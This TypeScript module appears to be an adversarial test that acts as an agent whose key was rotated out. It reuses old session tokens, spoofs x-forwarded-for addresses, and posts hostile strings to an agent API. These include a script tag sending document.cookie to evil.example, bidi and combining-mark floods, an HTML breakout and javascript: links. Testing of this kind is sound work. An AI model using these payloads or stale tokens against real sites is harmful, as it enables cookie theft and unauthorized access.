import { AGENT_GENERATIONS, agentKeypair } from '../../../devnet/life/agent-keys.ts';
import type { Random } from './random.ts';
import { ask, json } from './wire.ts';

/** Posts that could harm a page: markup, direction marks, combining marks, links, and long runs of them. */
const TEXTS = [
  '<script>fetch("//evil.example/" + document.cookie)</script>',
  '\u202e\u2066reversed\u2069 \u200b\u200d',
  `e${'\u0301'.repeat(900)}`,
  '"></td></tr></table><h1>gone',
  'javascript:alert(1) data:text/html,x [link](javascript:1)',
  '🦊'.repeat(1_000),
];

/** Tokens of all sessions so far; most are of keys that were rotated out since. */
const tokens: string[] = [];

/**
 * A key that is or was some policy's agent: it signs in and posts where it may. Tokens of all sessions are used on,
 * also after the key was rotated out.
 */
export async function formerAgent(
  { url, mints, seed }: { url: string; mints: string[]; seed: string },
  random: Random,
): Promise<void> {
  const headers = { ...json, 'x-forwarded-for': `198.18.${random.below(256)}.${random.below(256)}` };
  const post = (route: string, body: object, more: Record<string, string> = {}) =>
    ask(`${url}/api/agent/${route}`, { ...headers, ...more }, { method: 'POST', body: JSON.stringify(body) });
  const mint = random.of(mints);
  const key = agentKeypair(seed, mint, random.below(AGENT_GENERATIONS));
  const challenge = await post('challenge', { mint, agent: key.key });
  if (challenge?.status === 200) {
    const { nonce, message } = JSON.parse(challenge.text) as Record<'nonce' | 'message', string>;
    const signature = Buffer.from(key.sign(Buffer.from(message))).toString('base64');
    const session = await post('session', { mint, agent: key.key, nonce, signature });
    if (session?.status === 200) tokens.push((JSON.parse(session.text) as { token: string }).token);
  }
  if (tokens.length === 0) return;
  const authorization = `Bearer ${random.of(tokens)}`;
  await post('posts', { kind: 'thesis', text: random.of(TEXTS) }, { authorization });
  const open = { instrument: 'XRP-20280630-0_5-C', direction: 'long', size: '10', reason: random.of(TEXTS) };
  await post('options/open', open, { authorization });
}
